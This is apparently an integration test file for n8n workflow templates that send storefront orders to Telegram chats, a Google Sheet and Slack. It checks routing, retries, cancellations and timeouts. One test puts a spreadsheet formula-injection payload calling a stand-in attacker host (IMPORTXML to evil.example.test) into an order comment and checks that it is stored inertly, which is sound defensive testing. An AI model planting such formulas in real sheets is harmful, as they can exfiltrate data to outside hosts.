import { eventually } from '../../host/eventually';
import type { WorkflowDraft } from '../../host/n8nApi';
import { ChatRoom, KITCHEN, MANAGERS, PODIL } from './chat';
import { onNewestHost } from './context';
import { createSlackCredential, importGoogleCredential, useElsewhere } from './elsewhere';
import { useOwnN8n } from './instance';
import { useTemplates, withParameters } from './templates';

const UNKNOWN_CHAT = -1001000000099;
const FORMULA = '=IMPORTXML("http://evil.example.test") <b>';

onNewestHost((host) => {
	const { sheets, slack, env } = useElsewhere();
	const given = useOwnN8n(host, 'sheetsAndSlack', { sampleMenu: true }, env);
	const { credentials, template, publish, changeStatus, placed } = useTemplates(given);
	const chat = new ChatRoom(given);

	beforeAll(async () => {
		credentials.push(await importGoogleCredential(host, given));
		credentials.push(await createSlackCredential(given.api));
	});

	const trigger = 'Merchant Storefront Orders Trigger';

	/** The example with these chats beside the default one. */
	function withChats(chats: Record<string, string | number>): WorkflowDraft {
		const draft = template('one-chat-per-store');
		const fields = { defaultChat: KITCHEN, ...chats };
		const assignments = Object.entries(fields).map(([name, value]) => ({
			...{ id: name, name, value: String(value), type: 'string' },
		}));
		return withParameters(draft, { 'Your chats': { assignments: { assignments } } });
	}

	test('One chat per store: an order comes to the chat of its store, or the default', async () => {
		const known = given.sandbox.placeOrder({ storeId: 'podil' }).order;
		const unknown = given.sandbox.placeOrder({ storeId: 'obolon' }).order;
		await publish(withChats({ 'chat podil': PODIL }));
		const message = await chat.message(known.number, PODIL);
		await chat.message(unknown.number, KITCHEN);
		expect(message.reply_markup?.inline_keyboard.flat()).toContainEqual({
			text: '30 min',
			callback_data: `order:30:${PODIL}:${known.id}`,
		});
	});

	test('One chat per store: with no chat, or a wrong one, orders go to the default', async () => {
		const orders = ['podil', 'obolon'].map(
			(storeId) => given.sandbox.placeOrder({ storeId }).order,
		);
		await publish(withChats({ 'chat podil': '', 'chat obolon': UNKNOWN_CHAT }));
		for (const { id, number, storeId } of orders) {
			const { reply_markup } = await chat.message(number, KITCHEN);
			expect(reply_markup?.inline_keyboard.flat()).toContainEqual({
				text: '20 min',
				callback_data: `order:20:${storeId === 'podil' ? KITCHEN : UNKNOWN_CHAT}:${id}`,
			});
		}
	});

	test('One chat per store: its chat hears what is pressed in the default chat', async () => {
		const busy = { description: 'Too Many Requests: retry after 5' };
		given.sandbox.configure({
			faults: [{ kind: 'answer', path: '/bot/sendMessage', status: 429, body: busy }],
		});
		const { order } = given.sandbox.placeOrder({ storeId: 'podil' });
		await publish(template('telegram-updates'));
		await publish(withChats({ 'chat podil': PODIL }));
		await chat.press(await chat.message(order.number, KITCHEN), '45 min');
		await chat.message(`✅ Order ${order.number} was accepted by Olena, 45 min`, PODIL);
		expect(placed(order.id).order.status).toBe('preparation');
	});

	test('One chat per store: a cancellation comes to the chat of its store as well', async () => {
		const { order } = given.sandbox.placeOrder({ storeId: 'podil' });
		const next = given.sandbox.placeOrder({ storeId: 'podil' }).order;
		await publish(withChats({ 'chat podil': PODIL }));
		await chat.message(order.number, PODIL);
		await changeStatus(order.id, 'canceled');
		await chat.message(`❌ Order ${order.number} was canceled`, PODIL);
		await chat.message(next.number, PODIL);
	});

	function inKyiv(): WorkflowDraft {
		const draft = template('orders-in-a-google-sheet');
		return { ...draft, settings: { ...draft.settings, timezone: 'Europe/Kyiv' } };
	}
	const timeInKyiv = (time: string) =>
		new Date(time).toLocaleString('sv-SE', { timeZone: 'Europe/Kyiv' });

	test('Orders in a Google sheet: a row that was deleted comes back with the next change', async () => {
		sheets.tabs.set('Orders', []).set('Dishes', []);
		const { order } = given.sandbox.placeOrder();
		const { id } = await given.api.createWorkflow(template('orders-in-a-google-sheet'));
		await given.api.run(id, trigger);
		sheets.tabs.get('Orders')?.pop();
		expect(sheets.rows('Orders')).toEqual([]);
		await changeStatus(order.id, 'preparation');
		await given.api.run(id, trigger);
		expect(sheets.rows('Orders')).toMatchObject([
			{ 'Order ID': order.id, Status: 'In Preparation' },
		]);
	});

	test('Orders in a Google sheet: a row follows its order, and each dish has one', async () => {
		sheets.tabs.set('Orders', []).set('Dishes', []);
		const { order } = given.sandbox.placeOrder({ comment: FORMULA });
		const { id } = await given.api.createWorkflow(inKyiv());
		await given.api.run(id, trigger);
		expect(sheets.rows('Orders')).toMatchObject([
			{ 'Order ID': order.id, Status: 'New', Total: order.netPrice.value, Comment: FORMULA },
		]);
		await changeStatus(order.id, 'preparation');
		const execution = await given.api.run(id, trigger);
		expect(execution.status).toBe('success');
		expect(sheets.rows('Orders')).toMatchObject([
			{ 'Order ID': order.id, Status: 'In Preparation', Comment: FORMULA },
		]);
		const { createdAt, updatedAt } = placed(order.id).order;
		expect(sheets.rows('Orders')).toMatchObject([
			{
				Placed: timeInKyiv(createdAt),
				Changed: timeInKyiv(updatedAt),
				Accepted: timeInKyiv(updatedAt),
			},
		]);
		expect(sheets.rows('Dishes').map(({ SKU, Quantity }) => [SKU, Quantity])).toEqual(
			order.items.map(({ sku, quantityFulfilled }) => [sku, quantityFulfilled]),
		);
	});

	test('Orders in a Google sheet: in the evening the managers get a summary of the day', async () => {
		sheets.tabs.set('Orders', []).set('Dishes', []);
		const { order } = given.sandbox.placeOrder();
		await changeStatus(order.id, 'preparation');
		const { id } = await given.api.createWorkflow(inKyiv());
		await given.api.run(id, trigger);
		const execution = await given.api.run(id, 'Every evening');
		expect(execution.status).toBe('success');
		const { text } = await chat.message(order.items[0].name, MANAGERS);
		expect(text).toMatch(/Average time to accept: 0(\.\d)? min/);
	});

	/** What somebody sends from the form behind the button, once the run has come to wait. */
	async function answer(link: string, choice: string): Promise<void> {
		await eventually('the form asks', async () => {
			const page = await fetch(link, { signal: AbortSignal.timeout(5_000) })
				.then(async (response) => await response.text())
				.catch(() => '');
			return page.includes('Decline');
		});
		const body = new FormData();
		body.set('field-0', JSON.stringify([choice]));
		await fetch(link, { method: 'POST', body, signal: AbortSignal.timeout(20_000) }).catch(
			() => {},
		);
	}

	const said = async (part: string) =>
		await eventually(`"${part}" in Slack`, () =>
			slack.messages.find((message) => message.text?.includes(part)),
		);

	/** The trigger looks at the orders at once when it is published: nobody waits for its minute. */
	async function postedInSlack(wish: object = {}, draft = template('order-to-slack')) {
		const before = slack.links.length;
		const { order } = given.sandbox.placeOrder(wish);
		await publish(draft);
		return { order, message: await said(order.number), before };
	}

	test('Order to Slack: the form accepts the order with the chosen time', async () => {
		const wish = { comment: 'see <!channel> & *run*' };
		const { order, message, before } = await postedInSlack(wish);
		expect(message.text).toContain('&lt;!channel&gt; &amp;');
		const link = await eventually('a button', () => slack.links[before]);
		await answer(link, '30 min');
		await said(`✅ Order ${order.number}: In Preparation, 30 min`);
		expect(placed(order.id).order).toMatchObject({
			status: 'preparation',
			estimatedCookingTime: 30,
		});
	});

	test('Order to Slack: of two orders at once, each is answered by itself', async () => {
		const other = given.sandbox.placeOrder().order;
		const { order, before } = await postedInSlack();
		const links = await eventually('two buttons', () => {
			const own = slack.links.slice(before);
			return own.length === 2 && own;
		});
		await answer(links[1], '45 min');
		await eventually('one of them is accepted', () =>
			[order, other].some(({ id }) => placed(id).order.status === 'preparation'),
		);
		await answer(links[0], '20 min');
		await said(`✅ Order ${order.number}`);
		await said(`✅ Order ${other.number}`);
		const times = [order, other].map(({ id }) => placed(id).order.estimatedCookingTime);
		expect(times.toSorted()).toEqual([20, 45]);
	});

	test('Order to Slack: an order is posted again after Slack had too many requests', async () => {
		slack.refusals = 1;
		await postedInSlack();
		expect(slack.refusals).toBe(0);
	});

	test('Order to Slack: the question has the order if Slack refused its message', async () => {
		slack.refusals = 3;
		const before = slack.links.length;
		const { order } = given.sandbox.placeOrder();
		await publish(template('order-to-slack'));
		await eventually('a button', () => slack.links[before]);
		const asked = slack.messages.findLast(({ blocks = [] }) => blocks.length > 0);
		expect(JSON.stringify(asked)).toContain(order.items[0].name);
	});

	test('Order to Slack: the channel hears that an order was canceled', async () => {
		const { order } = await postedInSlack();
		await changeStatus(order.id, 'canceled');
		await said(`❌ Order ${order.number} was canceled`);
	});

	test('Order to Slack: a cancellation that the channel refuses comes to another one', async () => {
		const { order } = await postedInSlack();
		// Messages of the order before may come later.
		slack.refusedText = `Order ${order.number} was canceled`;
		slack.refusals = 3;
		await changeStatus(order.id, 'canceled');
		expect(await said(`❌ Order ${order.number} was canceled`)).toMatchObject({
			channel: '#managers',
			text: expect.stringContaining('The channel did not take this'),
		});
	});

	test('Order to Slack: an answer that comes too late changes nothing', async () => {
		const { order, before } = await postedInSlack();
		const link = await eventually('a button', () => slack.links[before]);
		await changeStatus(order.id, 'canceled');
		await answer(link, '20 min');
		await said(`⚠️ Order ${order.number} was not changed`);
	});

	test('Order to Slack: after the time limit the channel hears that the order is New', async () => {
		const limit = { limitType: 'afterTimeInterval', resumeAmount: 1, resumeUnit: 'seconds' };
		const draft = template('order-to-slack');
		const asking = draft.nodes.find(({ name }) => name === 'Ask for the time');
		const options = { ...(asking?.parameters.options as object), limitWaitTime: { values: limit } };
		const { order } = await postedInSlack(
			{},
			withParameters(draft, { 'Ask for the time': { options } }),
		);
		await said(`⏰ Nobody has answered for order ${order.number}`);
		expect(placed(order.id).order.status).toBe('new');
	});
});
